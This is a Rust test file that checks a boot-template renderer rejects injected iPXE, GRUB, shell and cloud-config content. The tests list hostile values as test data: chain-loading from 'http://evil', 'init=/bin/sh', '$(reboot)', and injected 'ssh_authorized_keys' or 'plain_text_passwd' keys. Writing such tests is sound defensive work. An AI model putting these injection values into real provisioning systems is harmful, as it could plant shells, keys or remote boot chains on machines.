//! What no value can do to a boot script or a template of Go's.

use super::templates::keys;
use super::*;
use crate::domain::catalog::check;
use crate::domain::labels::Labels;

/// The words of each command of an iPXE script: lines are split at blanks before anything is expanded, `||`,
/// `&&` and `;` separate commands, `#` begins a comment (iPXE's src/core/exec.c).
fn ipxe_commands(text: &str) -> Vec<Vec<&str>> {
    let mut out = Vec::new();
    for line in text.lines() {
        let words: Vec<&str> =
            line.split_whitespace().take_while(|word| !word.starts_with('#')).collect();
        let commands = words.split(|word| matches!(*word, "||" | "&&" | ";"));
        out.extend(commands.map(<[&str]>::to_vec));
    }
    out
}

fn shape(text: &str) -> Vec<usize> {
    ipxe_commands(text).iter().map(Vec::len).collect()
}

const IPXE: &str = "#!ipxe\nkernel http://s/{{x}} a={{x}} {{x}}\ninitrd http://s/i?x={{urlencode x}}\necho {{screen x}}\nboot\n";
const GRUB: &str =
    "linux (http,s)/k a={{x}} \"b={{x}}\" {{quote x}}\necho {{quote x}}\nset y={{x}}\n";

/// CVE-2026-46447: in OpenStack Ironic a node's own values could add directives to its boot configuration.
#[test]
fn a_serial_cannot_add_a_command_or_an_argument_to_a_boot_script() {
    for evil in [
        "SN1\nchain http://evil",
        "SN1 || chain http://evil",
        "SN1 init=/bin/sh",
        "${net0/mac}",
        "SN1;reboot x",
        "||",
        "#",
        "SN1\\",
    ] {
        let told = render("ipxe/x", "#!ipxe\nkernel k sn={{x}} {{x}}\n", json!({"x": evil}));
        if evil != "#" {
            assert!(told.is_err() || evil == "||", "{evil:?} {told:?}");
        }
        if let Ok(text) = &told {
            assert_eq!(shape(text), shape("#!ipxe\nkernel k sn=1 1\n"), "{text}");
        }
        let told = render("grub/x", "linux k sn={{x}} {{x}}\n", json!({"x": evil}));
        assert!(told.is_err(), "{evil:?} {told:?}");
    }
    let told = render("ipxe/x", "#!ipxe\nkernel k sn={{x}}\n", json!({"x": "a&b=c"})).unwrap();
    assert_eq!(told, "#!ipxe\nkernel k sn=a&b=c\n", "one word, and nothing of iPXE's");
}

#[test]
fn what_cannot_stand_in_a_script_is_named_with_its_way_out() {
    let told = render("ipxe/x", "#!ipxe\nkernel k t={{x}}\n", json!({"x": "two words"}));
    let message = told.unwrap_err().message;
    assert!(message.contains("line 2") && message.contains("two words"), "{message}");
    assert!(message.contains("{{screen x}} is for the screen"), "{message}");
}

#[test]
fn words_of_boot_may_hold_templates_but_stay_words() {
    let profile = "boot:\n  kernel: /assets/k\n  args: ['url={{server.url}}/x?mac=${mac:hexhyp}', 'r={{role}}']\n";
    let catalog = catalog(&[("profiles/p.yaml", profile), ("groups/g.yaml", "profile: p\n")]);
    let selection = catalog.select(&Labels::new()).unwrap();
    let args = |role: &str| {
        let mut context = context(json!({"role": role}));
        context.server.url = "http://s".to_owned();
        catalog.boot(selection, &context).map(|boot| boot.unwrap().into_owned().args)
    };
    assert_eq!(args("db").unwrap(), ["url=http://s/x?mac=${mac:hexhyp}", "r=db"]);
    let fault = args("db init=/bin/sh").unwrap_err();
    assert!(fault.to_string().starts_with("profiles/p.yaml:3: boot.args[1]: line 1"), "{fault}");
    let missing = check(&catalog).faults;
    assert!(missing.iter().any(|fault| fault.message.contains("nobody supplies `role`")));
}

#[test]
fn text_for_the_screen_stands_where_all_words_are_shown() {
    let build = |line: &str| {
        let files = vec![SourceFile {
            path: "templates/ipxe/x".to_owned(),
            text: format!("#!ipxe\n{line}\n"),
        }];
        Catalog::build(CatalogId::new("test"), &files.into()).map(drop)
    };
    assert_eq!(build("echo {{screen x}}"), Ok(()));
    assert_eq!(build("  item a {{ screen x }}"), Ok(()));
    for wrong in ["kernel k {{screen x}}", "kernel k {{#if x}}{{screen x}}{{/if}}", "{{screen x}}"]
    {
        let faults = build(wrong).unwrap_err();
        assert!(faults[0].to_string().contains("x:2:1: `{{screen x}}`"), "{}", faults[0]);
    }
}

#[test]
fn a_value_of_go_s_templates_is_written_as_it_is_unless_it_changes_the_structure() {
    let go = |template: &str, value: &str| {
        let catalog = catalog(&[("cloud/x.yaml", template)]);
        let text = catalog
            .render(&TemplateName::new("cloud/x.yaml").unwrap(), &context(json!({"x": value})));
        text.map(|text| text.as_ref().to_owned())
    };
    let told = go("#cloud-config\nhostname: {{.x}}\n", "http://a:80").unwrap();
    assert_eq!(told, "#cloud-config\nhostname: http://a:80\n", "byte for byte as matchbox");
    let evil = "a\nssh_authorized_keys: [evil]";
    let fault = go("#cloud-config\nhostname: {{.x}}\n", evil).unwrap_err();
    assert!(fault.message.contains("adds or hides a key of $"), "{fault}");
    let told = go("#cloud-config\nhostname: \"{{.x}}\"\n", "a\", \"b").unwrap_err();
    assert!(!told.message.is_empty());
    let block = "#cloud-config\nwrite_files:\n  - content: |\n      {{.x}}\n";
    assert!(go(block, "key: value").is_ok(), "text in a block scalar is text");
}

#[test]
fn what_a_machine_says_of_itself_cannot_mean_anything_in_go_s_templates() {
    let catalog = catalog(&[
        ("cloud/x.sh", "#!/bin/sh\necho {{.request.query.os}} {{.note}}\n"),
        ("generic/x", "rootpw {{.request.query.os}}\n"),
    ]);
    let told = |name: &str, os: &str| {
        let mut context = context(json!({"note": "$(date)"}));
        context.request.query.insert("os".to_owned(), os.to_owned());
        let text = catalog.render(&TemplateName::new(name).unwrap(), &context);
        text.map(|text| text.as_ref().to_owned())
    };
    let script = told("cloud/x.sh", "installed").unwrap();
    assert_eq!(script, "#!/bin/sh\necho installed $(date)\n", "metadata is its author's");
    for evil in ["$(reboot)", "a;b", "a b", "`x`", "a\nb"] {
        assert!(told("cloud/x.sh", evil).is_err(), "{evil}");
    }
    assert!(told("generic/x", "a\n%post").is_err());
    assert!(told("generic/x", "a b").is_err(), "nobody knows what two words are there");
    assert_eq!(told("generic/x", "ab").unwrap(), "rootpw ab\n");
}

#[test]
fn two_values_of_a_machine_cannot_trade_one_key_for_another_in_go_s_templates() {
    let template = "#cloud-config\nusers:\n- {name: {{.request.query.user}}, gecos: {{.request.query.serial}}}\n";
    let catalog = catalog(&[("cloud/x.yaml", template), ("cloud/none", template)]);
    let told = |name: &str, user: &str, serial: &str| {
        let mut context = context(json!({}));
        for (key, value) in [("user", user), ("serial", serial)] {
            context.request.query.insert(key.to_owned(), value.to_owned());
        }
        catalog.render(&TemplateName::new(name).unwrap(), &context)
    };
    for name in ["cloud/x.yaml", "cloud/none"] {
        let fault = told(name, "core, plain_text_passwd: \"x", "\"").unwrap_err();
        assert!(fault.message.contains("adds or hides a key of $.users[0]"), "{fault}");
        assert!(told(name, "core", "SN 1").is_ok());
    }
}

#[test]
fn a_map_of_matchbox_s_metadata_may_be_written_with_its_keys() {
    let template = "#cloud-config\nx:\n{{range $k, $v := .map}}  {{$k}}: {{$v}}\n{{end}}";
    let catalog = catalog(&[("cloud/x.yaml", template)]);
    let name = TemplateName::new("cloud/x.yaml").unwrap();
    let map = json!({"map": {"a": "1", "b": "2"}});
    let told = catalog.render(&name, &context(map)).unwrap();
    assert_eq!(*told, *"#cloud-config\nx:\n  a: 1\n  b: 2\n");
}

#[test]
fn a_script_gets_one_plain_word_in_quotes_of_its_author_and_any_text_in_quotes_of_its_own() {
    let told = |template: &str, x: &str| render("generic/x.sh", template, json!({"x": x}));
    for evil in ["$(reboot)", "a'b", "a b", "`id`", "a\nb", ""] {
        for template in ["echo '{{x}}'", "echo \"{{x}}\"", "# {{x}}", "cat <<E\n{{x}}\nE"] {
            let fault = told(template, evil).unwrap_err();
            assert!(fault.message.contains("{{quote x}}"), "{fault}");
        }
    }
    assert_eq!(told("echo '{{x}}'", "http://a:80/b").unwrap(), "echo 'http://a:80/b'");
    assert_eq!(told("echo {{quote x}}", "it's $(x)").unwrap(), r"echo 'it'\''s $(x)'");
    assert_eq!(told("echo {{json x}}", "a").unwrap(), "echo '\"a\"'");
    assert_eq!(told("echo {{base64 (json x)}}", "a").unwrap(), "echo ImEi");
}

#[test]
fn quotes_of_a_script_s_author_are_no_place_for_quotes_of_a_value() {
    let faults = |path: &str, text: &str| {
        let files = vec![SourceFile { path: format!("templates/{path}"), text: text.to_owned() }];
        Catalog::build(CatalogId::new("test"), &files.into()).err().unwrap_or_default()
    };
    for (path, text) in [
        ("generic/x.sh", "echo '{{quote x}}'"),
        ("generic/x.sh", "echo \"{{json x}}\""),
        ("grub/x", "menuentry \"{{screen x}}\" {\n}"),
        ("grub/x", "linux k \"a={{quote x}}\""),
        ("grub/x", "linux k 'a={{quote x}}'"),
    ] {
        let told = faults(path, text);
        assert!(told[0].message.contains("inside of quotes"), "{path} {text} {told:?}");
    }
    assert!(faults("grub/x", "menuentry {{screen x}} {\n}").is_empty());
}

const EVIL: &str = "(?s).{0,30}|[ \n\r\t#;|&${}\\\\\"'`a1=/-]{0,16}";

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn no_value_adds_a_command_or_an_argument_to_an_ipxe_script(value in EVIL) {
        let plain = render("ipxe/x", IPXE, json!({"x": "v"})).unwrap();
        if let Ok(told) = render("ipxe/x", IPXE, json!({"x": value})) {
            let (told, plain) = (shape(&told), shape(&plain));
            prop_assert_eq!(told.len(), plain.len());
            // `echo` shows any number of words, an empty value is no word.
            prop_assert!(told[1] <= plain[1] && told[2] == plain[2], "{:?}", told);
        }
    }

    #[test]
    fn no_value_adds_a_command_or_an_argument_to_a_grub_script(value in EVIL) {
        if let Ok(told) = render("grub/x", GRUB, json!({"x": value})) {
            let words: Vec<usize> = told.lines().map(|line| grub_words(line).unwrap()).collect();
            prop_assert!(words == [5, 2, 2] || value.is_empty(), "{words:?} {told}");
        }
    }

    #[test]
    fn no_value_adds_a_key_to_what_go_s_templates_render(value in EVIL, other in EVIL) {
        let template = "a: {{.x}}\nl:\n  - {{.x}}\n  - \"{{.x}}\"\nm: {n: {{.x}}, o: '{{.x}}'}\nb: |\n  {{.x}}\nu: [{name: {{.x}}, gecos: {{.y}}, k: {d: {{.x}}, e: [{{.y}}]}}]\nz: 1\n";
        let catalog = catalog(&[("ignition/x.yaml", template)]);
        let name = TemplateName::new("ignition/x.yaml").unwrap();
        let keys_of = |x: &str, y: &str| {
            let text = catalog.render(&name, &context(json!({"x": x, "y": y}))).ok()?;
            Some(keys(&serde_yaml::from_str(&text).unwrap()))
        };
        let wanted = keys_of("plain", "word").unwrap();
        for (x, y) in [(&value, &other), (&value, &"\"".to_owned()), (&value, &"'".to_owned())] {
            if let Some(told) = keys_of(x, y) {
                prop_assert_eq!(&told, &wanted);
            }
        }
        if let Ok(text) = catalog.render(&name, &context(json!({"x": value, "y": other}))) {
            let told: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
            let keys: Vec<&str> = told.as_mapping().unwrap().keys().map(|k| k.as_str().unwrap()).collect();
            prop_assert_eq!(keys, ["a", "l", "m", "b", "u", "z"]);
            prop_assert_eq!(told["l"].as_sequence().unwrap().len(), 2);
            prop_assert_eq!(told["m"].as_mapping().unwrap().len(), 2);
        }
    }
}

/// Words of one GRUB command; `None` when it is more than one (GRUB manual, "Shell-like scripting").
fn grub_words(line: &str) -> Option<usize> {
    let (mut words, mut inside, mut quoted) = (0, false, false);
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                chars.next()?;
                inside = true;
            }
            '"' => {
                quoted = !quoted;
                inside = true;
            }
            '$' => return None,
            ';' | '|' | '&' | '<' | '>' | '{' | '}' | '\'' | '#' if !quoted => return None,
            ' ' | '\t' if !quoted => {
                words += usize::from(inside);
                inside = false;
            }
            _ => inside = true,
        }
    }
    (!quoted).then_some(words + usize::from(inside))
}
